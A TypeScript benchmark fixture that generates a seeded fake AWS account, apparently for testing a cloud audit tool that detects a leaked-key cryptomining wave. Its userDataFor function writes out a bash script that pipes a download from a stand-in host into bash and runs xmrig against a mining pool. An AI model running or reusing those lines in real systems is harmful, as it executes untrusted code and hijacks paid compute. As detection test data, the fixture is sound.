/**
 * A generated AWS account for the scale benchmark: N instances over 17 enabled regions (plus a few
 * regions not opted in), a realistic mix of instance types with some GPU boxes, launch times spread
 * over six months, one leaked-key wave of large and GPU instances in every region at once, hourly
 * CPU/network values answered from a formula, and 91 days of Cost Explorer data.
 *
 * Everything is deterministic (seeded), so two runs of the benchmark read the same account.
 */
import { DEFAULT_REGIONS } from "../scenarios/account-builder.js";

const HOUR_MS = 3600 * 1000;
const DAY_MS = 24 * HOUR_MS;

/**
 * The audit's reference time (the window is the 24 hours before it): the last whole hour, not a
 * fixed date, because some collectors (CloudTrail's 90-day event history) compare the window with
 * the real clock. Everything in the account is placed relative to it.
 */
export const BENCH_WINDOW_END = new Date(Math.floor(Date.now() / HOUR_MS) * HOUR_MS);
export const BENCH_ACCOUNT_ID = "123456789012";

/** The 17 regions enabled by default, shared with the scenario generators. */
export const ENABLED_REGIONS = DEFAULT_REGIONS;
export const NOT_OPTED_IN_REGIONS = ["af-south-1", "ap-east-1", "eu-south-1", "me-south-1"] as const;

/** Where the account's own workload runs, and its share of the non-wave instances. */
const HOME_REGIONS: ReadonlyArray<{ region: string; share: number }> = [
  { region: "us-east-1", share: 0.4 },
  { region: "us-west-2", share: 0.25 },
  { region: "eu-west-1", share: 0.15 },
];

export interface TypeSpec {
  name: string;
  vcpus: number;
  memoryMiB: number;
  gpus: number;
  gpuModel?: string;
  /** Relative frequency in the account's own workload. */
  weight: number;
}

/** The account's mix: mostly small general-purpose, ~10 % large compute, ~3 % GPU. */
export const INSTANCE_TYPES: readonly TypeSpec[] = [
  { name: "t3.micro", vcpus: 2, memoryMiB: 1024, gpus: 0, weight: 10 },
  { name: "t3.small", vcpus: 2, memoryMiB: 2048, gpus: 0, weight: 8 },
  { name: "t3.medium", vcpus: 2, memoryMiB: 4096, gpus: 0, weight: 10 },
  { name: "t3.large", vcpus: 2, memoryMiB: 8192, gpus: 0, weight: 6 },
  { name: "t4g.medium", vcpus: 2, memoryMiB: 4096, gpus: 0, weight: 4 },
  { name: "m5.large", vcpus: 2, memoryMiB: 8192, gpus: 0, weight: 10 },
  { name: "m5.xlarge", vcpus: 4, memoryMiB: 16384, gpus: 0, weight: 8 },
  { name: "m5.2xlarge", vcpus: 8, memoryMiB: 32768, gpus: 0, weight: 5 },
  { name: "m6i.large", vcpus: 2, memoryMiB: 8192, gpus: 0, weight: 6 },
  { name: "m6i.xlarge", vcpus: 4, memoryMiB: 16384, gpus: 0, weight: 5 },
  { name: "m7g.large", vcpus: 2, memoryMiB: 8192, gpus: 0, weight: 3 },
  { name: "c5.large", vcpus: 2, memoryMiB: 4096, gpus: 0, weight: 5 },
  { name: "c5.xlarge", vcpus: 4, memoryMiB: 8192, gpus: 0, weight: 4 },
  { name: "c5.2xlarge", vcpus: 8, memoryMiB: 16384, gpus: 0, weight: 3 },
  { name: "c6i.xlarge", vcpus: 4, memoryMiB: 8192, gpus: 0, weight: 3 },
  { name: "r5.large", vcpus: 2, memoryMiB: 16384, gpus: 0, weight: 4 },
  { name: "r5.xlarge", vcpus: 4, memoryMiB: 32768, gpus: 0, weight: 3 },
  { name: "r6i.2xlarge", vcpus: 8, memoryMiB: 65536, gpus: 0, weight: 2 },
  { name: "m5.4xlarge", vcpus: 16, memoryMiB: 65536, gpus: 0, weight: 3 },
  { name: "c5.4xlarge", vcpus: 16, memoryMiB: 32768, gpus: 0, weight: 3 },
  { name: "r5.4xlarge", vcpus: 16, memoryMiB: 131072, gpus: 0, weight: 2 },
  { name: "c6i.8xlarge", vcpus: 32, memoryMiB: 65536, gpus: 0, weight: 1 },
  { name: "g4dn.xlarge", vcpus: 4, memoryMiB: 16384, gpus: 1, gpuModel: "NVIDIA T4", weight: 1.5 },
  { name: "g5.2xlarge", vcpus: 8, memoryMiB: 32768, gpus: 1, gpuModel: "NVIDIA A10G", weight: 1 },
  { name: "p3.2xlarge", vcpus: 8, memoryMiB: 62464, gpus: 1, gpuModel: "NVIDIA V100", weight: 0.5 },
  // Only the leaked-key wave launches these.
  { name: "c5.24xlarge", vcpus: 96, memoryMiB: 196608, gpus: 0, weight: 0 },
  { name: "p3.16xlarge", vcpus: 64, memoryMiB: 499712, gpus: 8, gpuModel: "NVIDIA V100", weight: 0 },
];
const WAVE_TYPES = ["c5.24xlarge", "p3.16xlarge", "g4dn.xlarge"] as const;
export const TYPE_BY_NAME: ReadonlyMap<string, TypeSpec> = new Map(INSTANCE_TYPES.map((t) => [t.name, t]));

export type InstanceKind = "office" | "steady" | "batch" | "miner";

export interface GeneratedInstance {
  index: number;
  instanceId: string;
  region: string;
  instanceType: string;
  state: "running" | "stopped" | "terminated";
  launchTimeMs: number;
  kind: InstanceKind;
  /** The leaked-key wave: launched in every region within minutes, with miner user data. */
  wave: boolean;
  /** GPU metric series the CloudWatch agent reports (0 without the agent). */
  gpuAgentSeries: number;
  imageId: string;
  keyName: string;
  subnetId: string;
  vpcId: string;
  tags: Record<string, string>;
}

export interface GeneratedAccount {
  size: number;
  seed: number;
  windowEnd: Date;
  instances: GeneratedInstance[];
  byRegion: Map<string, GeneratedInstance[]>;
  byId: Map<string, GeneratedInstance>;
  /** Services with spend, for Cost Explorer. */
  services: string[];
}

/** mulberry32: small, fast, seeded. */
function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function pickWeighted<T extends { weight: number }>(items: readonly T[], random: () => number): T {
  const total = items.reduce((sum, item) => sum + item.weight, 0);
  let roll = random() * total;
  for (const item of items) {
    roll -= item.weight;
    if (roll < 0) return item;
  }
  const last = items[items.length - 1];
  if (!last) throw new Error("empty choice");
  return last;
}

function instanceIdFor(index: number): string {
  return `i-0${(0x1000000 + index * 7919).toString(16).padStart(16, "0")}`;
}

const SERVICES = [
  "Amazon Elastic Compute Cloud - Compute",
  "EC2 - Other",
  "Amazon Simple Storage Service",
  "Amazon Relational Database Service",
  "Amazon CloudWatch",
  "AWS Lambda",
  "Amazon DynamoDB",
  "Amazon Virtual Private Cloud",
  "Elastic Load Balancing",
  "Amazon Route 53",
  "AWS Key Management Service",
  "Amazon Simple Notification Service",
  "Amazon Elastic Container Service",
  "AWS CloudTrail",
  "Tax",
];

/** The wave's size: at least one instance in every enabled region, about 1 % of the account. */
export function waveSize(size: number): number {
  return Math.max(ENABLED_REGIONS.length, Math.round(size * 0.01));
}

export function generateAccount(size: number, seed = 20260310): GeneratedAccount {
  const random = seededRandom(seed ^ size);
  const windowEnd = BENCH_WINDOW_END.getTime();
  const instances: GeneratedInstance[] = [];
  const ownTypes = INSTANCE_TYPES.filter((t) => t.weight > 0);
  const others = ENABLED_REGIONS.filter((r) => !HOME_REGIONS.some((h) => h.region === r));
  const wave = Math.min(size, waveSize(size));
  const waveStart = windowEnd - 30 * HOUR_MS;

  for (let index = 0; index < size; index += 1) {
    const isWave = index >= size - wave;
    let region: string;
    let type: TypeSpec;
    let launchTimeMs: number;
    let state: GeneratedInstance["state"] = "running";
    let kind: InstanceKind;
    if (isWave) {
      const waveIndex = index - (size - wave);
      region = ENABLED_REGIONS[waveIndex % ENABLED_REGIONS.length] ?? "us-east-1";
      type = TYPE_BY_NAME.get(WAVE_TYPES[waveIndex % WAVE_TYPES.length] ?? "c5.24xlarge") as TypeSpec;
      launchTimeMs = waveStart + Math.floor(random() * 8 * 60 * 1000);
      kind = "miner";
    } else {
      const roll = random();
      let acc = 0;
      region = others[Math.floor(random() * others.length)] ?? "us-east-2";
      for (const home of HOME_REGIONS) {
        acc += home.share;
        if (roll < acc) {
          region = home.region;
          break;
        }
      }
      type = pickWeighted(ownTypes, random);
      // 4 % launched in the last 8 days (autoscaling churn); the rest over six months.
      launchTimeMs =
        random() < 0.04
          ? windowEnd - Math.floor(random() * 8 * DAY_MS)
          : windowEnd - 8 * DAY_MS - Math.floor(random() * 180 * DAY_MS);
      const stateRoll = random();
      state = stateRoll < 0.85 ? "running" : stateRoll < 0.95 ? "stopped" : "terminated";
      const kindRoll = random();
      kind = kindRoll < 0.5 ? "office" : kindRoll < 0.85 ? "steady" : "batch";
    }
    const gpuAgentSeries = !isWave && type.gpus > 0 && random() < 0.5 ? type.gpus : 0;
    instances.push({
      index,
      instanceId: instanceIdFor(index),
      region,
      instanceType: type.name,
      state,
      launchTimeMs,
      kind,
      wave: isWave,
      gpuAgentSeries,
      imageId: isWave ? "ami-0c0ffee0c0ffee000" : `ami-0${(index % 40).toString(16).padStart(16, "a")}`,
      keyName: isWave ? "x" : `team-${index % 12}`,
      subnetId: `subnet-0${(index % 30).toString(16).padStart(16, "b")}`,
      vpcId: `vpc-0${(index % 5).toString(16).padStart(16, "c")}`,
      tags: isWave ? {} : { Name: `svc-${index % 97}-${index}`, team: `team-${index % 12}`, env: "prod" },
    });
  }

  const byRegion = new Map<string, GeneratedInstance[]>();
  const byId = new Map<string, GeneratedInstance>();
  for (const instance of instances) {
    const list = byRegion.get(instance.region) ?? [];
    list.push(instance);
    byRegion.set(instance.region, list);
    byId.set(instance.instanceId, instance);
  }
  return { size, seed, windowEnd: BENCH_WINDOW_END, instances, byRegion, byId, services: [...SERVICES] };
}

/** A cheap deterministic noise in [0, 1) per (instance, hour, salt). */
function noise(index: number, hour: number, salt: number): number {
  const x = Math.sin(index * 12.9898 + hour * 78.233 + salt * 37.719) * 43758.5453;
  return x - Math.floor(x);
}

/**
 * The hourly value of a metric for an instance at a time, or undefined where CloudWatch has no
 * point (before launch, after a stop, terminated).
 */
export function metricValue(instance: GeneratedInstance, metricName: string, timeMs: number): number | undefined {
  if (timeMs < instance.launchTimeMs) return undefined;
  if (instance.state === "terminated") return undefined;
  if (instance.state === "stopped" && timeMs > BENCH_WINDOW_END.getTime() - 3 * DAY_MS) return undefined;
  const hour = Math.floor(timeMs / HOUR_MS);
  const hourOfDay = hour % 24;
  const n = noise(instance.index, hour, metricName.length);
  let cpu: number;
  switch (instance.kind) {
    case "miner":
      cpu = 97 + 2 * n;
      break;
    case "office":
      cpu = hourOfDay >= 8 && hourOfDay < 18 ? 35 + 20 * n : 4 + 4 * n;
      break;
    case "steady":
      cpu = 20 + 10 * n;
      break;
    case "batch":
      cpu = n > 0.8 ? 90 * n : 3 + 5 * n;
      break;
  }
  switch (metricName) {
    case "CPUUtilization":
      return Math.round(cpu * 100) / 100;
    case "NetworkOut":
      return Math.round((instance.kind === "miner" ? 4e6 : 5e7 * cpu) * (0.8 + 0.4 * n));
    case "NetworkPacketsOut":
      return Math.round((instance.kind === "miner" ? 9e3 : 4e4 * cpu) * (0.8 + 0.4 * n));
    default:
      // GPU utilization from the agent.
      return Math.round((instance.kind === "miner" ? 99 : 30 + 40 * n) * 100) / 100;
  }
}

/** Base64 user data: a miner for the wave, an ordinary bootstrap script for everyone else. */
export function userDataFor(instance: GeneratedInstance): string | undefined {
  if (instance.wave) {
    const script = [
      "#!/bin/bash",
      "curl -s -L http://203.0.113.7/x.sh | bash",
      "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1",
    ].join("\n");
    return Buffer.from(script, "utf8").toString("base64");
  }
  if (instance.index % 3 === 0) return undefined;
  const script = `#!/bin/bash\nyum install -y amazon-cloudwatch-agent\n/opt/app/bootstrap --service svc-${instance.index % 97}\n`;
  return Buffer.from(script, "utf8").toString("base64");
}

/** Cost Explorer groups per day for one GroupBy key, with each group's daily amount. */
export function costGroups(account: GeneratedAccount, key: string, dayIndex: number, days: number): [string, number][] {
  const recent = dayIndex >= days - 2;
  const groups: [string, number][] = [];
  if (key === "REGION") {
    for (const [region, list] of account.byRegion) {
      const own = list.filter((i) => !i.wave).length;
      if (own > 0) groups.push([region, own * 2.4]);
      else if (recent) groups.push([region, list.length * 90]);
    }
    groups.push(["global", 3.1]);
  } else if (key === "SERVICE") {
    account.services.forEach((service, i) => {
      groups.push([service, (account.size / 10) * (1 + (i % 4))]);
    });
  } else if (key === "INSTANCE_TYPE") {
    const types = new Map<string, { count: number; wave: boolean }>();
    for (const instance of account.instances) {
      const entry = types.get(instance.instanceType) ?? { count: 0, wave: true };
      entry.count += 1;
      entry.wave &&= instance.wave;
      types.set(instance.instanceType, entry);
    }
    for (const [type, { count, wave }] of types) {
      if (!wave || recent) groups.push([type, count * 1.7]);
    }
  } else {
    groups.push(["NoGroup", 1]);
  }
  return groups;
}
